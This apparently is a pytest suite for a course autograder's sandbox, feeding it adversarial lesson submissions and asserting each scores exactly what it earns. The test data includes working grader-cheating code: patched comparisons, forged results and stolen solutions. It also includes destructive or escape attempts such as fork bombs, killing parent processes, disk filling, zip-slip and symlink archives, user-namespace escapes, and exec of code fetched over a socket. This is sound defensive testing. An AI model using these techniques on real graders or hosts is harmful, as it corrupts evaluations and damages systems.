"""Submissions that try to cheat, crash or harm the grader get exactly the score they earn.

All of them are lesson-03 submissions graded in one batch, in the real sandbox. Most
start from a correct module and break or attack one part, so the expected score says
precisely which checks the attack cost (or did not win).
"""

from __future__ import annotations

import socket
import subprocess
import sys
import threading
import zipfile
from pathlib import Path
from textwrap import dedent

import pytest

from autograder import REPO_ROOT
from autograder.grading.grade import Grader, GradeOptions, Sandbox
from autograder.grading.intake import find_submissions
from autograder.lessons import get_lesson
from autograder.runner import collect

LESSON = get_lesson("03")
CHECKS = collect(LESSON.checks)
TOTAL = sum(c.points for c in CHECKS)


def points(*todos: int) -> int:
    return sum(c.points for c in CHECKS if c.todo in todos)


INIT = '''
import torch
import torch.nn.functional as F

def init_embedding(vocab_size, n_embd, generator):
    return torch.randn((vocab_size, n_embd), generator=generator)
'''
EMBED = '''
def embed(C, X):
    return C[X]
'''
ONEHOT = '''
def embed_onehot(C, X):
    return F.one_hot(X, num_classes=C.shape[0]).to(C.dtype) @ C
'''
CORRECT = INIT + EMBED + ONEHOT
WRONG_23 = INIT + '''
def embed(C, X):
    return torch.zeros(X.shape + (C.shape[1],))

def embed_onehot(C, X):
    return torch.zeros(X.shape + (C.shape[1],))
'''


def with_embed(body: str) -> str:
    """The correct module, but embed() replaced by ``body`` (a function definition)."""
    return INIT + ONEHOT + dedent(body)


SECRET_PORT_FILE = "port.txt"

FIND_RPC = '''
import os, socket, struct, sys

def _rpc():
    """The worker's RPC socket: what a student could write forged replies to."""
    for fd in range(3, 256):
        try:
            s = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        kind = s.type
        s.close()
        if kind == socket.SOCK_STREAM:
            return fd
    raise RuntimeError("no socket")

def _frame(value):
    import json
    blobs = []
    def enc(v):
        if isinstance(v, torch.Tensor):
            blobs.append(v.contiguous().view(torch.uint8).numpy().tobytes())
            return ["T", str(v.dtype)[6:], list(v.shape), len(blobs) - 1, False]
        if isinstance(v, dict):
            return ["d", [[enc(k), enc(x)] for k, x in v.items()]]
        if isinstance(v, bool):
            return ["b", v]
        return ["s", v]
    header = json.dumps(enc(value)).encode()
    body = b"AGC1" + struct.pack("<I", len(header)) + header
    for b in blobs:
        body += struct.pack("<Q", len(b)) + b
    return struct.pack("<Q", len(body)) + body
'''

# name -> (module source, expected score)
CASES: dict[str, tuple[str, int]] = {
    "correct": (CORRECT, TOTAL),
    "always_equal": ('''
class Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __getattr__(self, name): return lambda *a, **k: Liar()
    def __getitem__(self, key): return Liar()
    def __float__(self): return 0.0
def init_embedding(*a, **k): return Liar()
def embed(*a, **k): return Liar()
def embed_onehot(*a, **k): return Liar()
''', 0),
    "lying_tensor_subclass": ('''
import torch
class Lie(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "__eq__", "eq", "isclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
def _lie(shape):
    return torch.zeros(shape).as_subclass(Lie)
def init_embedding(vocab_size, n_embd, generator): return _lie((vocab_size, n_embd))
def embed(C, X): return _lie(X.shape + (C.shape[1],))
def embed_onehot(C, X): return _lie(X.shape + (C.shape[1],))
''', 0),
    "patches_torch_and_testing": (WRONG_23 + '''
import torch.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: True
''', points(1)),
    "patches_builtins": (WRONG_23 + '''
import builtins
builtins.isinstance = lambda *a: True
builtins.len = lambda x: 0
builtins.AssertionError = Exception
''', points(1)),
    "patches_pytest_internals": (WRONG_23 + '''
import pytest, _pytest.outcomes
pytest.fail = _pytest.outcomes.fail = lambda *a, **k: None
pytest.approx = lambda *a, **k: True
import _pytest.runner
_pytest.runner.call_and_report = lambda *a, **k: None
''', points(1)),
    "sys_exit_at_import": (CORRECT + "\nimport sys\nsys.exit(0)\n", 0),
    "os_exit_in_function": (with_embed('''
def embed(C, X):
    import os
    os._exit(0)
'''), points(1, 3)),
    "raises_systemexit": (with_embed('''
def embed(C, X):
    raise SystemExit(0)
'''), points(1, 3)),
    "raises_keyboardinterrupt": (with_embed('''
def embed(C, X):
    raise KeyboardInterrupt
'''), points(1, 3)),
    "prints_fake_results": (WRONG_23 + '''
print("lesson 03: 10/10 points (6/6 checks passed)")
print('{"score": 10, "tests": []}')
def _say(): print("PASSED " * 20)
_say()
''', points(1)),
    "ships_conftest_sitecustomize_torch": (CORRECT, TOTAL),  # its extra files: see below
    "reads_solutions_and_checks": ('''
import os
_stolen = None
for path in [{solution!r}, {checks!r}, "/proc/1/root" + {solution!r},
             "../../../" + {solution!r}, os.path.expanduser("~/solutions/03/embedding.py")]:
    try:
        with open(path) as f:
            _stolen = f.read()
        break
    except OSError:
        pass
if _stolen:
    exec(_stolen)
else:
    def init_embedding(vocab_size, n_embd, generator): return None
    def embed(C, X): return None
    def embed_onehot(C, X): return None
''', 0),
    "infinite_loop": (with_embed('''
def embed(C, X):
    while True:
        pass
'''), points(1, 3)),
    "ignores_signals": (with_embed('''
import signal
for _sig in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM, signal.SIGHUP, signal.SIGXCPU):
    signal.signal(_sig, signal.SIG_IGN)
def embed(C, X):
    signal.alarm(1)
    while True:
        pass
'''), points(1, 3)),
    "allocates_50_gb": (with_embed('''
def embed(C, X):
    big = torch.ones(50 * 2**30, dtype=torch.uint8, device=C.device)
    return C[X] + big[0]
'''), points(1, 3)),
    "fork_bomb": (with_embed('''
def embed(C, X):
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
'''), points(1, 3)),
    "floods_stdout": (CORRECT + '''
import sys
sys.stdout.write("x" * 20_000_000)
_embed = embed
def embed(C, X):
    print("PASSED " * 200_000)
    return _embed(C, X)
''', TOTAL),
    "opens_network_socket": ('''
import socket
def _answers():
    for host in ("127.0.0.1", "localhost", "1.1.1.1"):
        try:
            with socket.create_connection((host, {port}), timeout=1) as s:
                return s.recv(100000).decode()
        except OSError:
            pass
    return None
_code = _answers()
if _code:
    exec(_code)
else:
''' + "\n".join("    " + line for line in WRONG_23.splitlines()), points(1)),
    "mutates_inputs_and_rng": (INIT + '''
import random
def embed(C, X):
    out = C[X].clone()
    C.zero_(); X.zero_()
    torch.manual_seed(0); random.seed(0)
    torch.randn(10)
    return out
def embed_onehot(C, X):
    out = F.one_hot(X, num_classes=C.shape[0]).to(C.dtype) @ C
    C.mul_(-1); X.fill_(0)
    torch.manual_seed(1)
    return out
''', TOTAL - sum(c.points for c in CHECKS if c.name.endswith("_gradient_and_inputs"))),
    "kills_its_parents": (CORRECT + '''
import os, signal
for pid in (os.getppid(), 1, -1, 0):
    try:
        os.kill(pid, signal.SIGKILL) if pid not in (0, -1) else None
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGKILL)  # everything we may signal, except ourselves
except OSError:
    pass
''', TOTAL),
    "imports_course_and_given": (CORRECT + '''
import importlib
import autograder
_fair = True
for _name in ("autograder.given.lesson01_bigram", "autograder.given.lesson02_dataset"):
    importlib.import_module(_name)  # the given code of earlier lessons (01, 02) is there
for _name in ("autograder.helpers", "autograder.student_side", "autograder.codec", "autograder.impl",
              "autograder.checking", "autograder.runner", "autograder.sandbox.child",
              "autograder.grading.grade", "autograder.build", "autograder.lessons"):
    try:
        importlib.import_module(_name)
        _fair = False
    except ImportError:
        pass
_fair = _fair and not [k for k, v in vars(autograder).items()
                       if type(v) is type(autograder) and k != "given"]
_fair = _fair and not [m for m in list(__import__("sys").modules)
                       if m.startswith("autograder.") and not m.startswith("autograder.given")]
if not _fair:
    def embed(C, X): return None
''', TOTAL),
    "forges_deep_reply": (with_embed(FIND_RPC + '''
def embed(C, X):
    header = b"[" * 200_000 + b"]" * 200_000
    body = b"AGC1" + struct.pack("<I", len(header)) + header
    os.write(_rpc(), struct.pack("<Q", len(body)) + body)
    return C[X]  # the true reply follows the forged one
'''), points(1, 3)),
    "forges_reply": (with_embed(FIND_RPC + '''
def embed(C, X):
    os.write(_rpc(), _frame({"event": "result", "ok": True, "value": C[X]}))
    return torch.zeros(X.shape + (C.shape[1],))  # stale reply for the next check
'''), points(1, 3)),
    "decode_bomb_header": (with_embed(FIND_RPC + '''
def embed(C, X):
    os.write(_rpc(), struct.pack("<Q", 1 << 29))  # announces 512 MiB
    return C[X]
'''), points(1, 3)),
    "huge_reply": (with_embed('''
def embed(C, X):
    return torch.zeros(3_000_000, device=C.device)  # 12 MB, over the 8 MiB limit here
'''), points(1, 3)),
    "huge_exception": (with_embed('''
def embed(C, X):
    cls = type("E" * 5_000_000, (Exception,), {})
    raise cls("M" * 5_000_000)
'''), points(1, 3)),
    "complex_result": (INIT + EMBED + '''
def embed_onehot(C, X):
    return F.one_hot(X, num_classes=C.shape[0]).to(torch.complex64) @ C.to(torch.complex64) + 1j
''', points(1, 2)),
    "fills_disk": (CORRECT + '''
import os
_written = 0
for _folder in (".", "/tmp", "/dev/shm"):
    for _i in range(10_000):
        try:
            with open(os.path.join(_folder, f"fill{_i}"), "wb") as _f:
                _f.write(b"x" * (1 << 20))
            _written += 1 << 20
        except OSError:
            break
''', TOTAL),
    "keyring_and_nested_userns": (CORRECT + '''
import ctypes, os, platform
_libc = ctypes.CDLL(None, use_errno=True)
_escaped = _libc.unshare(0x10000000) == 0  # CLONE_NEWUSER: would regain capabilities
if platform.machine() == "x86_64":  # add_key(2) to the user keyring, which outlives us
    _escaped = _escaped or _libc.syscall(248, b"user", b"answers", b"42", 2, -4) >= 0
if _escaped:
    def embed(C, X): return None
''', TOTAL),
    "obfuscated_correct": ('''
import base64 as _b, torch as _t
exec(_b.b64decode({code!r}).decode())
globals()["em" + "bed"] = (lambda C, X: C.__getitem__(X))
ｅｍｂｅｄ_onehot = lambda C, X: (__import__("torch").nn.functional.one_hot(
    X, C.shape[0]).to(C.dtype)).__matmul__(C)
''', TOTAL),
}


def _write_cases(folder: Path, port: int) -> None:
    import base64

    solution = str(REPO_ROOT / "solutions" / "03" / "embedding.py")
    checks = str(LESSON.checks)
    for name, (source, _) in CASES.items():
        if name == "ships_conftest_sitecustomize_torch":
            sub = folder / name
            sub.mkdir()
            (sub / "embedding.py").write_text(source)
            (sub / "conftest.py").write_text("import pytest\npytest.approx = lambda *a, **k: True\n")
            (sub / "sitecustomize.py").write_text("import builtins\nbuiltins.print = None\n")
            (sub / "torch.py").write_text("raise ImportError('shadowed torch')\n")
            continue
        text = source
        if name == "reads_solutions_and_checks":
            text = source.replace("{solution!r}", repr(solution)).replace("{checks!r}", repr(checks))
        elif name == "opens_network_socket":
            text = source.replace("{port}", str(port))
        elif name == "obfuscated_correct":
            text = source.replace("{code!r}", repr(base64.b64encode(INIT.encode()).decode()))
        (folder / f"{name}.py").write_text(text)


def _zip_cases(folder: Path) -> dict[str, int]:
    """Zips with ../ paths and links; name -> expected score."""
    with zipfile.ZipFile(folder / "zip_dotdot_extra.zip", "w") as zf:
        zf.writestr("../../escaped_by_zip.py", "print('escaped')\n")
        zf.writestr("/tmp/absolute_by_zip.py", "print('escaped')\n")
        zf.writestr("work/embedding.py", CORRECT)
    with zipfile.ZipFile(folder / "zip_dotdot_module.zip", "w") as zf:
        zf.writestr("../embedding.py", CORRECT)
    with zipfile.ZipFile(folder / "zip_symlink.zip", "w") as zf:
        info = zipfile.ZipInfo("embedding.py")
        info.external_attr = (0o120777 << 16)  # a symbolic link to the reference solution
        zf.writestr(info, str(REPO_ROOT / "solutions" / "03" / "embedding.py"))
    (folder / "zip_not_a_zip.zip").write_bytes(b"PK\x03\x04 this is not really a zip")
    link_dir = folder / "folder_symlink"
    link_dir.mkdir()
    (link_dir / "embedding.py").symlink_to(REPO_ROOT / "solutions" / "03" / "embedding.py")
    solution_dir = REPO_ROOT / "solutions" / "03"
    (folder / "link_to_solutions").symlink_to(solution_dir, target_is_directory=True)
    (folder / "link_file.py").symlink_to(solution_dir / "embedding.py")
    nested = folder / "unpacked_tar" / "lesson03"
    nested.mkdir(parents=True)
    (nested / "work").symlink_to(solution_dir, target_is_directory=True)  # as a tar can give
    return {"zip_dotdot_extra": TOTAL, "zip_dotdot_module": 0, "zip_symlink": 0,
            "zip_not_a_zip": 0, "folder_symlink": 0, "link_to_solutions": 0, "link_file": 0,
            "unpacked_tar": 0}


class _AnswerServer:
    """A TCP server on the host's loopback that hands out the correct module."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            with conn:
                conn.sendall(CORRECT.encode())


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    folder = tmp_path_factory.mktemp("adversarial")
    server = _AnswerServer()
    _write_cases(folder, server.port)
    expected = {name: score for name, (_, score) in CASES.items()}
    expected.update(_zip_cases(folder))
    options = GradeOptions(jobs=2, timeout=5, total_timeout=60, memory=4 << 30,
                           isolation="full", disk=8 << 20, max_message=8 << 20)
    with Sandbox(options) as sandbox:
        results = Grader(LESSON, sandbox).grade_all(find_submissions([folder], LESSON.module))
    server.sock.close()
    return {r.student: r for r in results}, expected, server, folder


def test_every_submission_gets_its_exact_score(graded):
    results, expected, _, _ = graded
    assert sorted(results) == sorted(expected)
    wrong = {name: (results[name].score, score) for name, score in expected.items()
             if results[name].score != score}
    details = {name: [(c.name, c.status, c.message[:200]) for c in results[name].results
                      if not c.passed] for name in wrong}
    assert not wrong, f"(got, expected): {wrong}\n{details}"


def _messages(result) -> str:
    return "\n".join(c.message for c in result.results)


def test_failures_explain_themselves(graded):
    results = graded[0]
    assert "could not be imported" in _messages(results["sys_exit_at_import"])
    assert "SystemExit" in _messages(results["sys_exit_at_import"])
    assert "ended while running embed()" in _messages(results["os_exit_in_function"])
    for name in ("infinite_loop", "ignores_signals", "fork_bomb"):
        statuses = {c.status for c in results[name].results if c.todo == 2}
        assert statuses == {"timeout"}, (name, _messages(results[name]))
    assert "memory limit" in _messages(results["allocates_50_gb"])
    assert "not plain data" in _messages(results["always_equal"])
    assert "unsafe path" in (results["zip_dotdot_module"].error or "")
    assert "symbolic link" in (results["zip_symlink"].error or "")
    assert "symbolic link" in (results["folder_symlink"].error or "")
    assert "unreadable zip" in (results["zip_not_a_zip"].error or "")
    for name in ("link_to_solutions", "link_file", "unpacked_tar"):
        assert "symbolic link" in (results[name].error or ""), name
    assert "larger than the limit" in _messages(results["huge_reply"])
    assert "larger than the limit" in _messages(results["decode_bomb_header"])
    for name in ("forges_deep_reply", "forges_reply"):
        statuses = {c.status for c in results[name].results if c.todo == 2}
        assert statuses == {"error"}, (name, _messages(results[name]))
    assert "complex" in _messages(results["complex_result"])
    big = results["huge_exception"]
    assert max(len(c.message) for c in big.results) < 10_000
    assert max(len(c.exc_type or "") for c in big.results) <= 200


def test_output_is_kept_but_capped(graded):
    results = graded[0]
    out = results["floods_stdout"].output
    assert len(out) < 70_000 and "bytes of output were discarded" in out
    assert "10/10 points" in results["prints_fake_results"].output


def test_nothing_escapes_the_sandbox(graded):
    _, _, server, folder = graded
    assert server.connections == 0, "a submission reached the host's network"
    for escaped in (folder.parent / "escaped_by_zip.py", folder.parent.parent / "escaped_by_zip.py",
                    Path("/tmp/absolute_by_zip.py")):
        assert not escaped.exists()
    # processes of a sandbox uid started by this interpreter (other grading runs on the
    # machine may use the same uids meanwhile)
    ps = subprocess.run(["ps", "-eo", "uid=,args="], capture_output=True, text=True).stdout
    ours = [line for line in ps.splitlines() if line.split(None, 1)[0].isdigit()
            and int(line.split(None, 1)[0]) >= 61000 and sys.executable in line]
    assert not ours, f"processes of a sandbox uid survive: {ours}"
